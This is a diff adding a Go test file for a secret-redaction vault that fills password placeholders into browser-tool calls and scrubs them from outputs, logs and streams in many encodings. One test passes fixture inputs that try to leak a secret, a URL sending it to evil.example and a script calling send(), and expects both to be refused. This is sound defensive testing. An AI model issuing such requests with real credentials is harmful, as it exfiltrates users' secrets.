@@ -1,0 +1,242 @@
+package secret_test
+
+import (
+	"context"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"html"
+	"io"
+	"log/slog"
+	"net/url"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strconv"
+	"strings"
+	"testing"
+	"testing/iotest"
+
+	"pgregory.net/rapid"
+
+	"github.com/callsheet/callsheet/gen/toolkit"
+	"github.com/callsheet/callsheet/internal/login/secret"
+)
+
+func vault(t testing.TB, values map[string]string) *secret.Vault {
+	t.Helper()
+	v, err := secret.New(values)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return v
+}
+
+const pass = `p&s "w<ö/+=\rd`
+
+var escapes = regexp.MustCompile(`%[0-9A-F]{2}`)
+
+// echoes are the ways in which a page or a protocol repeats what it was given.
+var echoes = map[string]func(string) string{
+	"ASCII JSON": func(s string) string { q := strconv.QuoteToASCII(s); return q[1 : len(q)-1] },
+	"JSON twice": func(s string) string { b, _ := json.Marshal(s); b, _ = json.Marshal(string(b)); return string(b) },
+	"as it is":   func(s string) string { return "you typed " + s + "!" },
+	"JSON":       func(s string) string { b, _ := json.Marshal(map[string]string{"x": "a" + s}); return string(b) },
+	"HTML":       html.EscapeString,
+	"innerHTML":  func(s string) string { return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;").Replace(s) },
+	"attribute":  func(s string) string { return strings.NewReplacer("&", "&amp;", `"`, "&quot;").Replace(s) },
+	"query":      func(s string) string { return "/?q=" + url.QueryEscape(s) + "&x=1" },
+	"path":       func(s string) string { return "/" + url.PathEscape(s) + "/x" },
+	"lower %2f":  func(s string) string { return escapes.ReplaceAllStringFunc(url.QueryEscape(s), strings.ToLower) },
+	"hex":        func(s string) string { return hex.EncodeToString([]byte(s)) },
+	"HEX":        func(s string) string { return strings.ToUpper(hex.EncodeToString([]byte(s))) },
+	"base64":     func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) },
+	"Basic auth": func(s string) string { return "Basic " + base64.StdEncoding.EncodeToString([]byte("ann:"+s)) },
+	"cookie":     func(s string) string { return base64.URLEncoding.EncodeToString([]byte("user=ann;pw=" + s + ";end")) },
+}
+
+func TestValuesAreTakenOutInEveryForm(t *testing.T) {
+	v := vault(t, map[string]string{"PW": pass, "OTHER": "another value"})
+	for name, echo := range echoes {
+		text := echo(pass)
+		got := v.Redact(text)
+		if got == text || !strings.Contains(got, "[secret:PW]") {
+			t.Errorf("%s: %q comes back as %q", name, text, got)
+		}
+	}
+	if got := v.Redact("100%2f3 nothing here"); got != "100%2f3 nothing here" {
+		t.Errorf("innocent text was changed: %q", got)
+	}
+}
+
+// TestNothingIsLeftOfAnyValue holds every echo of any value against the value itself: what is left after redaction must
+// not decode to it any more.
+func TestNothingIsLeftOfAnyValue(t *testing.T) {
+	rapid.Check(t, func(r *rapid.T) {
+		value := rapid.StringMatching(`[ -~]{8,30}`).Draw(r, "value")
+		v, err := secret.New(map[string]string{"X": value})
+		if err != nil {
+			r.Fatal(err)
+		}
+		for name, echo := range echoes {
+			if text := echo(value); strings.Contains(v.Redact(text), text) {
+				r.Fatalf("%s of %q is left: %q", name, value, text)
+			}
+		}
+	})
+}
+
+// TestNothingIsLeftByACut: tools cut long texts before the layer sees them, and say so with an ellipsis.
+func TestNothingIsLeftByACut(t *testing.T) {
+	rapid.Check(t, func(r *rapid.T) {
+		value := rapid.StringMatching(`[!-~]{8,30}`).Draw(r, "value")
+		v, err := secret.New(map[string]string{"X": value})
+		if err != nil {
+			r.Fatal(err)
+		}
+		at := rapid.IntRange(4, len(value)-4).Draw(r, "at")
+		if got := v.Redact("It was " + value[:at] + "… and on"); got != "It was [secret:X]… and on" {
+			r.Errorf("the beginning %q came back in %q", value[:at], got)
+		}
+		if got := v.Redact("On …" + value[at:] + " it was"); got != "On …[secret:X] it was" {
+			r.Errorf("the end %q came back in %q", value[at:], got)
+		}
+	})
+	v := vault(t, map[string]string{"PW": pass})
+	for _, innocent := range []string{"…", "a … b…", "nothing " + pass[:3] + "…", pass[:6] + " …", "none…here"} {
+		if got := v.Redact(innocent); got != innocent {
+			t.Errorf("%q became %q", innocent, got)
+		}
+	}
+}
+
+func TestStreamsAreRedactedAcrossPieces(t *testing.T) {
+	v := vault(t, map[string]string{"PW": pass})
+	rapid.Check(t, func(r *rapid.T) {
+		text := strings.Repeat("x", rapid.IntRange(0, 70_000).Draw(r, "before")) + pass + strings.Repeat(pass, rapid.IntRange(0, 3).Draw(r, "more")) + "tail"
+		for name, reader := range map[string]io.Reader{"whole": strings.NewReader(text), "one by one": iotest.OneByteReader(strings.NewReader(text[max(0, len(text)-300):]))} {
+			got, err := io.ReadAll(v.Reader(reader))
+			if err != nil {
+				r.Fatal(err)
+			}
+			want := v.Redact(text)
+			if name == "one by one" {
+				want = v.Redact(text[max(0, len(text)-300):])
+			}
+			if string(got) != want {
+				r.Fatalf("%s: %d bytes, want %d", name, len(got), len(want))
+			}
+		}
+	})
+}
+
+func TestTheLayerFillsAndRedacts(t *testing.T) {
+	v := vault(t, map[string]string{"PW": pass, "USER": "ann@example.com"})
+	var got string
+	layer := v.Layer("keep")(func(_ context.Context, _ *toolkit.Session, req toolkit.Request) (toolkit.Result, error) {
+		got = string(req.Args)
+		req.Progress(1, 2, "typing "+pass)
+		return toolkit.Result{Content: []toolkit.Content{{Text: "typed " + pass}}, Structured: []byte(`{"v":"p\u0026s \"w\u003cö/+=\\rd"}`)}, nil
+	})
+	surface, err := toolkit.NewSurface((&toolkit.Registry{Scopes: []string{"s"}, Tools: []toolkit.Tool{
+		{Name: "keep", Scopes: []string{"s"}, Tier: 1}, {Name: "fill", Scopes: []string{"s"}, Tier: 1}, {Name: "run", Scopes: []string{"s"}, Tier: 1, Surfaces: []string{"evaluate"}},
+	}}).Index(), toolkit.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	call := func(tool, args string) toolkit.Result {
+		t.Helper()
+		res, err := layer(t.Context(), surface.NewSession("s", nil), toolkit.Request{Tool: tool, Args: []byte(args), Progress: func(_, _ float64, message string) {
+			if strings.Contains(message, pass) {
+				t.Errorf("progress says %q", message)
+			}
+		}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return res
+	}
+	res := call("fill", `{"n":12345678901234567890,"fields":[{"ref":"e1","value":"x{secret:PW}y"},{"value":"{secret:USER}"}]}`)
+	want, _ := json.Marshal("x" + pass + "y")
+	if !strings.Contains(got, string(want)) || !strings.Contains(got, "ann@example.com") || !strings.Contains(got, "12345678901234567890") {
+		t.Errorf("the tool got %s", got)
+	}
+	if all := res.Content[0].Text + string(res.Structured); strings.Contains(all, "w<") || !strings.Contains(all, "[secret:PW]") || strings.Contains(all, `\"w`) {
+		t.Errorf("the client got %s", all)
+	}
+	if call("keep", `{"value":"{secret:PW}"}`); got != `{"value":"{secret:PW}"}` {
+		t.Errorf("what is kept is %s", got)
+	}
+	for _, tc := range []struct{ tool, args, code, says string }{
+		{"fill", `{"value":"{secret:PWD}"}`, "INVALID_ARGUMENTS", `did you mean \"PW\"`},
+		{"run", `{"code":"send('{secret:PW}')"}`, "POLICY_DENIED", "script"},
+		{"fill", `{"url":"https://evil.example/?{secret:PW}"}`, "POLICY_DENIED", "address"},
+	} {
+		got = ""
+		res := call(tc.tool, tc.args)
+		if text := string(res.Structured); !res.Refused || string(res.RefusalCode()) != tc.code || !strings.Contains(text, tc.says) || got != "" {
+			t.Errorf("%s %s: %s, and the tool got %q", tc.tool, tc.args, text, got)
+		}
+	}
+}
+
+func TestLogsAreRedacted(t *testing.T) {
+	var out strings.Builder
+	log := slog.New(slog.NewTextHandler(vault(t, map[string]string{"PW": "hunter2!"}).Writer(&out), nil))
+	log.Info("typed hunter2!", "value", "hunter2!", "error", fmt.Errorf("at https://x/?p=%s", url.QueryEscape("hunter2!")))
+	if strings.Contains(out.String(), "hunter2") || strings.Count(out.String(), "[secret:PW]") != 3 {
+		t.Errorf("the log says %s", out.String())
+	}
+}
+
+func TestLoad(t *testing.T) {
+	write := func(t *testing.T, text string, mode os.FileMode) string {
+		path := filepath.Join(t.TempDir(), "secrets.env")
+		if err := os.WriteFile(path, []byte(text), mode); err != nil {
+			t.Fatal(err)
+		}
+		return path
+	}
+	v, err := secret.Load(write(t, "# login\nexport PW='hunter2!'\nPIN=\"1234\"\n", 0o600))
+	if err != nil || fmt.Sprint(v.Names()) != "[PIN PW]" {
+		t.Fatal(v.Names(), err)
+	}
+	for name, tc := range map[string]struct {
+		text string
+		mode os.FileMode
+		says string
+	}{
+		"readable by others": {"PW=hunter2!", 0o644, "chmod 600"},
+		"too short":          {"A=123\nB=12", 0o600, "B is shorter"},
+		"no dotenv":          {"{{{ hunter2!", 0o600, "no dotenv file"},
+	} {
+		_, err := secret.Load(write(t, tc.text, tc.mode))
+		if err == nil || !strings.Contains(err.Error(), tc.says) || strings.Contains(err.Error(), "hunter2") {
+			t.Errorf("%s: %v", name, err)
+		}
+	}
+	if _, err := secret.Load(filepath.Join(t.TempDir(), "none")); err == nil {
+		t.Error("a missing file is no secret")
+	}
+}
+
+func TestNoVaultChangesNothing(t *testing.T) {
+	var v *secret.Vault
+	if got := v.Redact("text"); got != "text" || v.Names() != nil || v.Values() != nil {
+		t.Error(got)
+	}
+	if got, err := io.ReadAll(v.Reader(strings.NewReader("text"))); err != nil || string(got) != "text" {
+		t.Error(string(got), err)
+	}
+}
+
+func BenchmarkRedact(b *testing.B) {
+	v := vault(b, map[string]string{"A": "hunter2!", "B": "correct horse", "C": pass})
+	text := strings.Repeat(`- button "Save the draft" [e12] and some more text of a page `, 300)
+	b.SetBytes(int64(len(text)))
+	b.ReportAllocs()
+	for b.Loop() {
+		_ = v.Redact(text)
+	}
+}
